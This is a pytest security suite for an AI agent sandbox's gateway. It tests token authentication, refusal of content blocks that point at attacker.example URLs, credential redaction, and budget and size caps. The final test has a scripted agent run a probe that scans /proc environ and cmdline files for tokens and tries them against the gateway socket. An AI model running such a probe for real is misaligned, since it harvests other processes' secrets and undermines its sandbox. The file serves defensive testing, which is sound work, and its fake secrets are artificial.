"""Host boundary: the gateway trusts nothing that arrives on its socket (issue 8).

A real :class:`Gateway` on a real unix socket, driven by real httpx clients and the anthropic
SDK (what the agent uses); a scripted provider answers, wrapped to record what was forwarded.
The last test does the same from inside a real sandbox container: a Bash command of the agent
looks for the token everywhere it can read and calls the socket without it.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import shutil
import socket
import stat
import tempfile
import tracemalloc
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from typing import Any

import anthropic
import httpx
import pytest

try:  # anthropic >= 2 is built on httpx2, as in runner/agent/client.py
    import httpx2 as sdk_http
except ImportError:  # pragma: no cover
    import httpx as sdk_http  # type: ignore[no-redef]

from runner.gateway import Budget, Gateway, Redactor, RetryPolicy, ScriptedProvider
from runner.gateway.credentials import git_config_credentials
from runner.gateway.limits import GatewayLimits
from runner.gateway.scripted import Scenario
from runner.gateway.server import prepare_socket_dir
from runner.protocol import DecideRequest, DecideResponse
from tests.security import harness as h

AWS = "AKIAQ3EGRWXJ7NTLZ5PU"
KNOWN = "dotenv-secret-Zq8vXw2LmN4pR7tY"
CI_TOKEN = "ghs_CItokenPersistedByCheckout0123456789"
BASIC = base64.b64encode(f"x-access-token:{CI_TOKEN}".encode()).decode()
REMOTE_PW = "remote-password-Hk3jU9wQ2e"
ROUTES = ("/v1/messages", "/v1/messages/count_tokens", "/v1/decide", "/v1/events", "/v1/anything")
SANDBOX_UID = 10001


def boundary(finding: str, title: str) -> pytest.MarkDecorator:
    return pytest.mark.host_boundary(finding=finding, title=title)


class Recording:
    """A provider wrapper that keeps what left the gateway and the most requests seen in flight."""

    def __init__(self, turns: int = 60, delay: float = 0.0) -> None:
        self.inner = ScriptedProvider(scenario=Scenario.model_validate(
            {"turns": [{"text": f"answer {i}", "delay": delay} for i in range(turns)]}))
        self.sent: list[dict[str, Any]] = []
        self.in_flight = 0
        self.max_in_flight = 0

    async def create(self, request: dict[str, Any], **kw: Any) -> dict[str, Any]:
        self.sent.append(request)
        self.in_flight += 1
        self.max_in_flight = max(self.max_in_flight, self.in_flight)
        try:
            result: dict[str, Any] = await self.inner.create(request, **kw)
            return result
        finally:
            self.in_flight -= 1

    def stream(self, request: dict[str, Any], **kw: Any) -> AsyncIterator[dict[str, Any]]:
        self.sent.append(request)
        events: AsyncIterator[dict[str, Any]] = self.inner.stream(request, **kw)
        return events

    async def count_tokens(self, request: dict[str, Any], **kw: Any) -> dict[str, Any]:
        result: dict[str, Any] = await self.inner.count_tokens(request, **kw)
        return result

    async def aclose(self) -> None:
        await self.inner.aclose()


class Box:
    """A started gateway, its run dir, what it forwarded and what it was asked to decide."""

    def __init__(self, gw: Gateway, provider: Recording, run_dir: Path,
                 decided: list[DecideRequest]) -> None:
        self.gw = gw
        self.provider = provider
        self.run_dir = run_dir
        self.decided = decided

    @property
    def socket(self) -> str:
        return str(self.gw.socket_path)

    def client(self, headers: dict[str, str] | None = None) -> httpx.Client:
        return httpx.Client(transport=httpx.HTTPTransport(uds=self.socket), base_url="http://gateway",
                            timeout=60, headers=headers or {})

    def authed(self) -> httpx.Client:
        return self.client({"x-api-key": self.gw.token})

    def lines(self, name: str) -> list[dict[str, Any]]:
        return h.read_jsonl(self.run_dir / name)

    def refusals(self) -> list[dict[str, Any]]:
        return [e for e in self.lines("events.jsonl") if e["kind"] == "gateway_refused"]


@pytest.fixture
def make_box(tmp_path: Path) -> Iterator[Callable[..., Box]]:
    made: list[tuple[Box, Path]] = []

    def make(*, limits: GatewayLimits | None = None, redactor: Redactor | None = None,
             budget: Budget | None = None, provider: Recording | None = None,
             socket_owner: tuple[int, int] | None = None) -> Box:
        sock_dir = Path(tempfile.mkdtemp(prefix="srhg-", dir="/tmp"))
        run_dir = tmp_path / f"run{len(made)}"
        decided: list[DecideRequest] = []

        def decide(req: DecideRequest) -> DecideResponse:
            decided.append(req)
            return DecideResponse(allow=True, decision_id=f"d{len(decided)}")

        prov = provider or Recording()
        gw = Gateway(socket_path=sock_dir / "gw.sock", provider=prov, decide=decide, run_dir=run_dir,
                     budget=budget or Budget(max_requests=100, max_tokens=10**9),
                     redactor=redactor or Redactor(), retry=RetryPolicy(retries=0),
                     limits=limits, socket_owner=socket_owner)
        gw.start()
        box = Box(gw, prov, run_dir, decided)
        made.append((box, sock_dir))
        return box

    yield make
    for box, sock_dir in made:
        box.gw.stop()
        shutil.rmtree(sock_dir, ignore_errors=True)


def body(*content: Any, max_tokens: int = 100) -> dict[str, Any]:
    msgs: list[dict[str, Any]] = [{"role": "user", "content": "task"}]
    msgs += content
    return {"model": "claude-test", "max_tokens": max_tokens, "messages": msgs}


def user(*blocks: dict[str, Any]) -> dict[str, Any]:
    return {"role": "user", "content": list(blocks)}


PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 32).decode()
CALL = {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1", "name": "Read",
                                          "input": {"file_path": "backend/a.png"}}]}
ROUTE_BODIES: dict[str, dict[str, Any]] = {
    "/v1/messages": body(),
    "/v1/messages/count_tokens": {"model": "m", "messages": [{"role": "user", "content": "hi"}]},
    "/v1/decide": {"tool": "Bash", "input": {"command": "ls"}},
    "/v1/events": {"kind": "text", "data": {"text": "forged"}},
    "/v1/anything": {},
}


# --- 1. authentication ------------------------------------------------------------------------


@boundary("gateway-no-auth", "Any process in the container or local user could call /v1/messages, "
          "/v1/decide, /v1/events: every route now requires the run's token (401, recorded)")
def test_every_route_refuses_calls_without_the_token(make_box: Callable[..., Box]) -> None:
    box = make_box()
    wrong = [{}, {"x-api-key": "sandbox"}, {"authorization": "Bearer " + "x" * 43},
             {"x-api-key": box.gw.token[:-1]}, {"authorization": f"Basic {box.gw.token}"},
             {"x-api-key": ""}]
    for route in ROUTES:
        for headers in wrong:
            with box.client(headers) as client:
                resp = client.post(route, json=ROUTE_BODIES[route])
            assert resp.status_code == 401, (route, headers, resp.text)
            assert resp.json()["error"]["type"] == "authentication_error"
    assert box.provider.sent == [] and box.decided == []  # nothing forwarded, nothing decided
    assert box.gw.stats.requests == box.gw.stats.decisions == box.gw.stats.events == 0
    events = box.lines("events.jsonl")
    assert [e["kind"] for e in events] == ["gateway_refused"] * (len(ROUTES) * len(wrong))
    assert {e["data"]["path"] for e in events} == set(ROUTES)
    assert {e["data"]["reason"] for e in events} == {"no token", "wrong token"}
    assert box.gw.stats.refused == len(ROUTES) * len(wrong)
    assert box.gw.token not in (box.run_dir / "events.jsonl").read_text()
    # The right token, as x-api-key or as a bearer token, is served.
    with box.authed() as client:
        assert client.post("/v1/events", json=ROUTE_BODIES["/v1/events"]).status_code == 200
        assert client.post("/v1/decide", json=ROUTE_BODIES["/v1/decide"]).status_code == 200
    with box.client({"authorization": f"Bearer {box.gw.token}"}) as client:
        assert client.post("/v1/messages", json=body()).status_code == 200
    assert len(box.provider.sent) == 1 and len(box.decided) == 1


@boundary("gateway-no-auth", "A Messages API client (the anthropic SDK, as Claude Code's relay and SDK users speak it) authenticates with the run's token as "
          "its api_key; the same client with any other key is refused")
def test_the_anthropic_sdk_needs_the_token(make_box: Callable[..., Box]) -> None:
    box = make_box()

    def sdk(key: str) -> anthropic.Anthropic:
        http = sdk_http.Client(transport=sdk_http.HTTPTransport(uds=box.socket), timeout=30)
        return anthropic.Anthropic(api_key=key, base_url="http://gateway", http_client=http,
                                   max_retries=0)

    with pytest.raises(anthropic.AuthenticationError):
        sdk("sandbox").messages.create(model="m", max_tokens=10,
                                       messages=[{"role": "user", "content": "hi"}])
    assert box.provider.sent == []
    msg = sdk(box.gw.token).messages.create(model="m", max_tokens=10,
                                            messages=[{"role": "user", "content": "hi"}])
    assert msg.content[0].type == "text" and len(box.provider.sent) == 1


@boundary("gateway-refusal-flood", "Refused calls are recorded as events up to a cap, then only "
          "counted: a flood of bad calls cannot grow events.jsonl")
def test_refusals_are_recorded_up_to_a_cap(make_box: Callable[..., Box]) -> None:
    box = make_box(limits=GatewayLimits(max_refusals_recorded=5))
    with box.client() as client:
        for _ in range(20):
            assert client.post("/v1/events", json=ROUTE_BODIES["/v1/events"]).status_code == 401
    refused = box.refusals()
    assert len(refused) == 6 and "later ones are only counted" in refused[-1]["data"]["note"]
    assert box.gw.stats.refused == 20


@boundary("gateway-socket-perms", "The socket was 0666 in a world-traversable directory: the directory "
          "is now 0700 and the socket 0600, both owned by the sandbox user; other users cannot connect")
def test_socket_and_directory_belong_to_the_sandbox_user_only(make_box: Callable[..., Box],
                                                                tmp_path: Path) -> None:
    root = os.geteuid() == 0
    uid, gid = (SANDBOX_UID, SANDBOX_UID) if root else (os.getuid(), os.getgid())
    box = make_box(socket_owner=(uid, gid))
    sock_dir = Path(box.socket).parent
    sock_dir.chmod(0o755)  # as a careless temp dir could be
    prepare_socket_dir(sock_dir, uid, gid)
    dir_st, sock_st = os.lstat(sock_dir), os.lstat(box.socket)
    assert stat.S_IMODE(dir_st.st_mode) == 0o700 and (dir_st.st_uid, dir_st.st_gid) == (uid, gid)
    assert stat.S_ISSOCK(sock_st.st_mode) and stat.S_IMODE(sock_st.st_mode) == 0o600
    assert (sock_st.st_uid, sock_st.st_gid) == (uid, gid)
    if root:  # another local user (neither root nor the sandbox uid) cannot even reach it
        assert _connect_as(65534, box.socket) == "PermissionError"
        assert _connect_as(uid, box.socket) == "connected"  # the sandbox user can


def _connect_as(uid: int, path: str) -> str:
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - child
        result = "error"
        try:
            os.setgroups([])
            os.setgid(uid)
            os.setuid(uid)
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.connect(path)
            result = "connected"
        except PermissionError:
            result = "PermissionError"
        except OSError as exc:
            result = type(exc).__name__
        finally:
            os.write(write, result.encode())
            os._exit(0)
    os.close(write)
    os.waitpid(pid, 0)
    with os.fdopen(read) as fh:
        return fh.read()


# --- 2. request shapes ------------------------------------------------------------------------

REFUSED_BLOCKS: dict[str, dict[str, Any]] = {
    "image-url": user({"type": "image", "source": {"type": "url",
                                                   "url": f"https://attacker.example/x.png?k={KNOWN}"}}),
    "image-file": user({"type": "image", "source": {"type": "file", "file_id": "file_123"}}),
    "document-url": user({"type": "document", "source": {"type": "url",
                                                         "url": "https://attacker.example/a.pdf"}}),
    "document-base64": user({"type": "document", "source": {
        "type": "base64", "media_type": "application/pdf", "data": PNG}}),
    "document-text": user({"type": "document", "source": {"type": "text", "media_type": "text/plain",
                                                          "data": "x"}}),
    "search-result": user({"type": "search_result", "source": "https://attacker.example", "title": "t",
                           "content": [{"type": "text", "text": "x"}]}),
    "tool-result-image-url": user({"type": "tool_result", "tool_use_id": "toolu_1", "content": [
        {"type": "image", "source": {"type": "url", "url": "https://attacker.example/y.png"}}]}),
    "tool-result-document": user({"type": "tool_result", "tool_use_id": "toolu_1", "content": [
        {"type": "document", "source": {"type": "url", "url": "https://attacker.example/z.pdf"}}]}),
    "server-tool-use": {"role": "assistant", "content": [
        {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_fetch",
         "input": {"url": "https://attacker.example"}}]},
    "container-upload": user({"type": "container_upload", "file_id": "file_1"}),
    "mcp-tool-use": {"role": "assistant", "content": [
        {"type": "mcp_tool_use", "id": "mcptoolu_1", "name": "x", "server_name": "s", "input": {}}]},
    "text-extra-field": user({"type": "text", "text": "x", "citations": [
        {"type": "web_search_result_location", "url": "https://attacker.example"}]}),
}
REFUSED_REQUESTS: dict[str, dict[str, Any]] = {
    "web-fetch-tool": {**body(), "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    "mcp-servers": {**body(), "mcp_servers": [{"type": "url", "url": "https://attacker.example",
                                               "name": "x"}]},
    "container": {**body(), "container": "container_1"},
    "context-edit-unknown": {**body(), "context_management": {"edits": [
        {"type": "fetch_url", "url": "https://attacker.example"}]}},
    "thinking-in-user-turn": {**body(), "messages": [{"role": "user", "content": [
        {"type": "thinking", "thinking": "x", "signature": "s"}]}]},
    "max-tokens-not-int": {**body(), "max_tokens": "100"},
}


@boundary("gateway-url-sources", "/v1/messages forwarded any content block (a url image or document "
          "makes the provider fetch an attacker URL): only text, tool_use, tool_result and base64 "
          "images pass; everything else is refused with 400 and nothing is forwarded")
@pytest.mark.parametrize("case", sorted(REFUSED_BLOCKS) + sorted(REFUSED_REQUESTS))
def test_blocks_the_provider_would_act_on_are_refused(make_box: Callable[..., Box], case: str) -> None:
    box = make_box(redactor=Redactor({"file:.env:K": KNOWN}))
    request = REFUSED_REQUESTS.get(case) or body(CALL, REFUSED_BLOCKS[case])
    with box.authed() as client:
        resp = client.post("/v1/messages", json=request)
    assert resp.status_code == 400 and resp.json()["error"]["type"] == "invalid_request_error"
    assert box.provider.sent == [] and box.gw.stats.requests == 0
    [refused] = box.refusals()
    assert refused["data"]["reason"].startswith("bad request: ")
    assert KNOWN not in (box.run_dir / "events.jsonl").read_text()


@boundary("gateway-source-unredacted", "source subtrees were never redacted: base64 image data, tool "
          "names, ids and dict keys are now redacted in what is forwarded and in the transcript")
def test_everything_recorded_is_redacted_base64_data_included(make_box: Callable[..., Box]) -> None:
    box = make_box(redactor=Redactor({"file:.env:K": KNOWN}))
    image = {"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                         "data": f"{PNG}{KNOWN}{AWS}"}}
    call = {"role": "assistant", "content": [{"type": "tool_use", "id": f"toolu_{AWS}", "name": "Read",
                                              "input": {KNOWN: AWS, "type": KNOWN, "id": AWS}}]}
    result = user({"type": "tool_result", "tool_use_id": f"toolu_{AWS}", "content": [
        {"type": "text", "text": "see image"},
        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": KNOWN + PNG}}]})
    with box.authed() as client:
        resp = client.post("/v1/messages", json=body(user(image), call, result))
    assert resp.status_code == 200
    sent = json.dumps(box.provider.sent)
    transcript = (box.run_dir / "transcript.jsonl").read_text()
    for text in (sent, transcript):
        assert KNOWN not in text and AWS not in text
        assert "[REDACTED:file:.env:K]" in text and "[REDACTED:aws-access-key]" in text
    [line] = box.lines("transcript.jsonl")
    source = line["request"]["messages"][1]["content"][0]["source"]
    assert source["type"] == "base64" and source["data"].startswith(PNG)
    assert KNOWN not in (box.run_dir / "redactions.jsonl").read_text()


@boundary("gateway-max-tokens", "max_tokens was forwarded as asked: it is clamped to the configured cap")
def test_max_tokens_is_clamped(make_box: Callable[..., Box]) -> None:
    box = make_box(limits=GatewayLimits(max_request_tokens=4096))
    with box.authed() as client:
        assert client.post("/v1/messages", json=body(max_tokens=10**9)).status_code == 200
        assert client.post("/v1/messages", json=body(max_tokens=100)).status_code == 200
    assert [r["max_tokens"] for r in box.provider.sent] == [4096, 100]
    first, second = box.lines("transcript.jsonl")
    assert first["max_tokens_asked"] == 10**9 and "max_tokens_asked" not in second
    assert box.gw.stats.clamped == 1


# --- 3. budget and sizes ----------------------------------------------------------------------


@boundary("gateway-budget-race", "40 concurrent /v1/messages all passed the budget check (42 answered "
          "with max_requests = 5): the budget is reserved before forwarding and one model request is "
          "in flight at a time, so exactly 5 are answered")
def test_concurrent_requests_cannot_overspend_the_budget(make_box: Callable[..., Box]) -> None:
    provider = Recording(turns=60, delay=0.01)
    box = make_box(provider=provider, budget=Budget(max_requests=5, max_tokens=10**9))

    async def burst() -> list[int]:
        transport = httpx.AsyncHTTPTransport(uds=box.socket)
        async with httpx.AsyncClient(transport=transport, base_url="http://gateway", timeout=120,
                                     headers={"x-api-key": box.gw.token}) as client:
            answers = await asyncio.gather(*(client.post("/v1/messages", json=body())
                                             for _ in range(40)))
        return [r.status_code for r in answers]

    codes = asyncio.run(burst())
    assert codes.count(200) == 5, codes
    assert set(codes) <= {200, 402, 503} and 402 in codes
    assert len(provider.sent) == 5 and provider.max_in_flight == 1
    assert box.gw.stats.requests == 5 and box.gw.budget.requests == 5
    assert box.gw.failure is not None and "requests > 5" in box.gw.failure


@boundary("gateway-body-size", "A 100 MiB POST grew the gateway by 600 MiB and stalled it: bodies are "
          "read in chunks and refused with 413 at the cap, with bounded memory, on every route")
@pytest.mark.parametrize("framing", ["chunked", "content-length"])
def test_a_huge_body_is_refused_without_being_buffered(make_box: Callable[..., Box], framing: str) -> None:
    box = make_box(limits=GatewayLimits(messages_body=1 << 20, decide_body=1 << 20, event_body=64 << 10))
    chunk = b"x" * (1 << 20)
    total = 100 << 20

    def stream() -> Iterator[bytes]:
        for _ in range(total // len(chunk)):
            yield chunk

    headers = {"content-length": str(total)} if framing == "content-length" else {}
    tracemalloc.start()
    try:
        with box.authed() as client:
            answers = {route: client.post(route, content=stream(), headers=headers)
                       for route in ("/v1/messages", "/v1/decide", "/v1/events")}
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    for route, resp in answers.items():
        assert resp.status_code == 413, (route, resp.status_code)
        assert resp.json()["error"]["type"] == "request_too_large"
    assert peak < 24 << 20, f"peak Python allocation {peak >> 20} MiB for a 100 MiB body"
    assert box.provider.sent == [] and box.decided == []
    assert [e["data"]["reason"] for e in box.refusals()] == [
        "body larger than 1048576 bytes", "body larger than 1048576 bytes",
        "body larger than 65536 bytes"]
    with box.authed() as client:  # and the gateway still serves
        assert client.post("/v1/messages", json=body()).status_code == 200


@boundary("gateway-event-flood", "Events had no size, count or rate cap: each is clipped, and past the "
          "count or rate cap they are answered 429 and not recorded")
def test_events_are_capped_in_size_count_and_rate(make_box: Callable[..., Box]) -> None:
    box = make_box(limits=GatewayLimits(max_events=10, event_data=1024))
    with box.authed() as client:
        big = client.post("/v1/events", json={"kind": "text", "data": {"text": "y" * 50_000}})
        codes = [client.post("/v1/events", json={"kind": "turn", "data": {"n": i}}).status_code
                 for i in range(20)]
    assert big.status_code == 200 and codes == [200] * 9 + [429] * 11
    events = box.lines("events.jsonl")
    assert events[0]["data"]["clipped"] is True and events[0]["data"]["bytes"] > 50_000
    assert len(json.dumps(events[0])) < 2048
    assert [e["kind"] for e in events[1:]] == ["turn"] * 9 + ["events_capped"]
    assert box.gw.stats.events == 10 and box.gw.stats.events_dropped == 11
    slow = make_box(limits=GatewayLimits(event_rate=0.001, event_burst=3))
    with slow.authed() as client:
        rated = [client.post("/v1/events", json={"kind": "turn", "data": {}}).status_code for _ in range(6)]
    assert rated == [200] * 3 + [429] * 3


@boundary("gateway-log-size", "transcript.jsonl, events.jsonl and redactions.jsonl grew without bound: "
          "each stops at its cap with one truncation marker, and the run goes on")
def test_logs_stop_at_their_cap_with_one_marker(make_box: Callable[..., Box]) -> None:
    cap = 8192
    box = make_box(limits=GatewayLimits(transcript_bytes=cap, events_bytes=cap, redactions_bytes=2048),
                   redactor=Redactor({f"file:.env:K{i}": f"known-secret-{i:04d}" for i in range(200)}))
    with box.authed() as client:
        for i in range(30):
            leak = user({"type": "text", "text": f"{'z' * 500} known-secret-{i:04d}"})
            assert client.post("/v1/messages", json=body(leak)).status_code == 200
            assert client.post("/v1/events", json={"kind": "text", "data": {"t": "w" * 500}}).status_code == 200
    for name, limit in (("transcript.jsonl", cap), ("events.jsonl", cap), ("redactions.jsonl", 2048)):
        path = box.run_dir / name
        assert path.stat().st_size <= limit, name
        rows = box.lines(name)
        assert rows[-1]["kind"] == "log_truncated", name
        assert sum(1 for r in rows if r.get("kind") == "log_truncated") == 1
    assert box.gw.stats.requests == 30 and box.gw.failure is None


# --- 4. CI credentials ------------------------------------------------------------------------

GIT_CONFIG = f"""[core]
\trepositoryformatversion = 0
[remote "origin"]
\turl = https://ci-user:{REMOTE_PW}@git.example.com/o/r.git
[http "https://github.com/"]
\textraheader = AUTHORIZATION: basic {BASIC}
"""


@boundary("gateway-ci-token", "The CI token actions/checkout persists in .git/config reached the model "
          "and the transcript: .git/config credentials are known secrets, and basic-auth, extraheader "
          "and URL credential forms are redacted")
def test_git_config_and_basic_auth_credentials_are_redacted(make_box: Callable[..., Box],
                                                            tmp_path: Path) -> None:
    project = tmp_path / "proj"
    (project / ".git").mkdir(parents=True)
    (project / ".git" / "config").write_text(GIT_CONFIG)
    values = {v for _, v in git_config_credentials(project)}
    assert {BASIC, CI_TOKEN, REMOTE_PW} <= values
    redactor = Redactor.from_env({})
    assert redactor.add_git_credentials(project) >= 3
    box = make_box(redactor=redactor)
    unknown_basic = base64.b64encode(b"bot:other-ci-password-123").decode()
    texts = [
        GIT_CONFIG,  # cat .git/config
        f"the token is {CI_TOKEN}",  # decoded by the agent
        f"git -c http.extraheader='AUTHORIZATION: basic {unknown_basic}' fetch",
        f"curl -H 'Authorization: Bearer {'b' * 40}' https://x",
        "git clone https://someone:hunter2hunter2@example.com/r.git",
        f"https://{'t' * 24}@github.com/o/r",
    ]
    with box.authed() as client:
        resp = client.post("/v1/messages", json=body(user(*({"type": "text", "text": t} for t in texts))))
    assert resp.status_code == 200
    sent, transcript = json.dumps(box.provider.sent), (box.run_dir / "transcript.jsonl").read_text()
    for text in (sent, transcript):
        for secret in (BASIC, CI_TOKEN, REMOTE_PW, unknown_basic, "b" * 40, "hunter2hunter2", "t" * 24):
            assert secret not in text, secret
    assert "[REDACTED:git-config:" in transcript


# --- in a real container ----------------------------------------------------------------------

PROBE = r'''
import glob, json, os, re, socket, stat

def status(token):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("/run/sandbox-runner/gw.sock")
    body = b'{"kind": "text", "data": {"text": "forged by a Bash child"}}'
    head = "POST /v1/events HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n"
    if token is not None:
        head += "x-api-key: %s\r\n" % token.decode("latin-1")
    s.sendall(head.encode("latin-1") + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)
    answer = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        answer += chunk
    s.close()
    return int(answer.split(b" ", 2)[1])

texts, readable, unreadable = [], [], []
bash = os.getppid()
agent = int(open("/proc/%d/stat" % bash).read().rsplit(")", 1)[1].split()[1])
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        texts.append(open(path, "rb").read())
        readable.append(path)
    except OSError:
        unreadable.append(path)
for name in os.listdir("/run/sandbox-runner"):
    try:
        texts.append(open("/run/sandbox-runner/" + name, "rb").read())
    except OSError:
        pass
candidates = set()
for text in texts:
    candidates.update(re.findall(rb"[A-Za-z0-9_-]{20,}", text))
d, s = os.stat("/run/sandbox-runner"), os.stat("/run/sandbox-runner/gw.sock")
print(json.dumps({
    "agent_environ_readable": "/proc/%d/environ" % agent in readable,
    "environs_read": sum(1 for p in readable if p.endswith("environ")),
    "no_token": status(None), "empty_token": status(b""),
    "candidates": len(candidates),
    "accepted": sum(1 for c in candidates if status(c) == 200),
    "dir_mode": oct(stat.S_IMODE(d.st_mode)), "dir_uid": d.st_uid,
    "sock_mode": oct(stat.S_IMODE(s.st_mode)), "sock_uid": s.st_uid, "me": os.getuid(),
}))
'''


@pytest.mark.docker
@boundary("gateway-token-in-sandbox", "In a real container a Bash child of the agent scans every "
          "/proc/*/environ, cmdline and the socket dir: no string found there authenticates, and a "
          "call to the socket without the token is refused (401, recorded)")
def test_a_bash_child_cannot_find_or_skip_the_token(tmp_path_factory: pytest.TempPathFactory) -> None:
    world = h.make_world(tmp_path_factory.mktemp("hostgw"))
    turns = [
        {"tool_calls": [h.call("Write", file_path="backend/probe.py", content=PROBE)]},
        {"tool_calls": [h.bash("python3 backend/probe.py > backend/probe.json 2>&1; cat backend/probe.json")]},
    ]
    res = h.run_scenario(world, "probe", turns, policy_dir=h.ALLOW_ALL)
    assert res.exit_code == 0, res.describe()
    raw = (world.backend / "probe.json").read_text()
    found = json.loads(raw)
    assert found["no_token"] == 401 and found["empty_token"] == 401, raw
    assert found["agent_environ_readable"] is False, raw  # the agent is non-dumpable
    assert found["environs_read"] >= 2, raw  # the scan did read its own and its shell's
    assert found["candidates"] > 0 and found["accepted"] == 0, raw
    assert found["dir_mode"] == "0o700" and found["sock_mode"] == "0o600", raw
    assert found["dir_uid"] == found["sock_uid"] == found["me"], raw
    refused = [e for e in h.read_jsonl(res.run_dir / "events.jsonl") if e["kind"] == "gateway_refused"]
    assert len(refused) >= 2 + found["candidates"] or len(refused) == 101, refused[:3]
    assert all(e["data"].get("path", "/v1/events") == "/v1/events" for e in refused)
    forged = [e for e in h.read_jsonl(res.run_dir / "events.jsonl")
              if e["kind"] == "text" and e["data"].get("text") == "forged by a Bash child"]
    assert forged == []
